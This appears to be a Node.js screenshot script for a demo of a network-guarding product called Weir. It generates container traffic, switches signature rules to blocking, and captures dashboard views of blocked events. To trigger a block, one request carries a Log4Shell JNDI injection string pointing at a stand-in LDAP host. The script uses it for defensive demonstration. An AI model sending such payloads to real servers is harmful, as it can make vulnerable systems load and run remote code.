/*
 * The pictures of README and guide, of a demo that is kept: `tools/web shots`. Nothing in
 * them is made up: its two containers talk as this script has them, and what they may not
 * is blocked.
 *
 *   shots.mjs FACTS   what `weir demo --namespaces --keep -o json` has printed
 */
import { execFile, spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { promisify } from 'node:util';
import { close, open, shot } from './lib.mjs';

const facts = JSON.parse(await readFile(process.argv[2], 'utf8'));
const { pid, link, web } = facts.steps.at(-1);
const url = link.slice(0, link.indexOf('#'));
const inside = ['-t', String(pid), '-m', '-n', '-p', 'ip', 'netns', 'exec', 'app', 'busybox'];
const run = promisify(execFile);
/* app asks web, or its gateway; that it is not answered may be meant. */
const ask = (path, whom = web) => run('nsenter', [...inside, 'timeout', '2', 'wget', '-q', '-O', '/dev/null', `http://${whom}${path}`]).catch(() => {});
const gateway = web.replace(/\d+$/, '1');
/* Some traffic with ups and downs for the chart. */
const load = spawn('nsenter', [
	...inside, 'sh', '-c',
	`i=0; while :; do i=$((i + 1)); wget -q -O /dev/null http://${web}/big; [ $((i % 40)) -gt 25 ] && usleep 300000; done`,
], { stdio: 'ignore' });

const { page, at, complaints } = await open(url, { expected: ['401'] });
process.on('exit', () => complaints.length && console.error(complaints.join('\n')));
await page.setViewportSize({ width: 1200, height: 760 });
await page.goto(link);
await page.getByLabel('Password', { exact: true }).fill('correct horse battery');
await page.getByLabel('The same password again').fill('correct horse battery');
await page.getByRole('button', { name: 'Make the user' }).click();
await page.getByRole('heading', { name: /guarded/ }).waitFor();

/* The agent looks for signatures at web: for Weir's own, with other numbers, and blocking. */
const rules = (await readFile(`${process.env.SRC}/rules/builtin.rules`, 'utf8')).replace(/^alert /gm, 'drop ').replace(/sid:9/g, 'sid:8');
const said = await page.evaluate(async (text) => {
	const { csrf } = await (await fetch('/api/v1/session')).json();
	const send = (method, path, body, type) =>
		fetch(`/api/v1${path}`, { method, body, headers: { 'x-weir-csrf': csrf, 'content-type': type } });
	const answers = [
		await send('PUT', '/signatures/files/web.rules', text, 'text/plain'),
		await send('PATCH', '/groups/web', '{"signatures":"enforce"}', 'application/json'),
	];
	return Promise.all(answers.map(async (a) => (a.ok ? '' : a.text())));
}, rules);
if (said.join('')) throw new Error(said.join('\n'));
await at('#/signatures');
await page.getByText(/[1-9]\d* in force/).first().waitFor();

for (const path of [':8080/', ':8080/admin', '/?q=${jndi:ldap://198.51.100.9/a}', ':8080/']) await ask(path);
for (const port of [443, 443, 5432, 9090]) await ask(`:${port}/`, gateway);
await at('#/overview');
await page.locator('.blocks').getByText('Log4Shell').first().waitFor();
// until there is something to be seen of the traffic
await page.waitForFunction(() => (document.querySelector('.talkers polyline')?.getAttribute('points') ?? '').split(' ').length > 25);
await shot(page, 'overview');

await at('#/groups');
const app = page.getByRole('row').filter({ has: page.getByRole('link', { name: 'app', exact: true }) });
const dialog = page.getByRole('dialog');
for (let i = 0; i < 20; i++) { // until what app did is recorded
	await app.getByRole('button', { name: 'protect' }).click();
	await dialog.getByText(/would have been blocked|Nothing/).first().waitFor();
	if (await dialog.getByText('would have been blocked').count()) break;
	await dialog.getByRole('button', { name: 'Cancel' }).click();
	await ask(':9090/', gateway);
}
await shot(page, 'preview');

await at('#/events?kind=signature&done=blocked');
await page.getByRole('row').filter({ hasText: 'Log4Shell' }).first().click();
await page.getByRole('button', { name: 'Show the bytes' }).click();
await page.locator('.hex .marked').first().waitFor();
await shot(page, 'evidence');
load.kill();
await close();
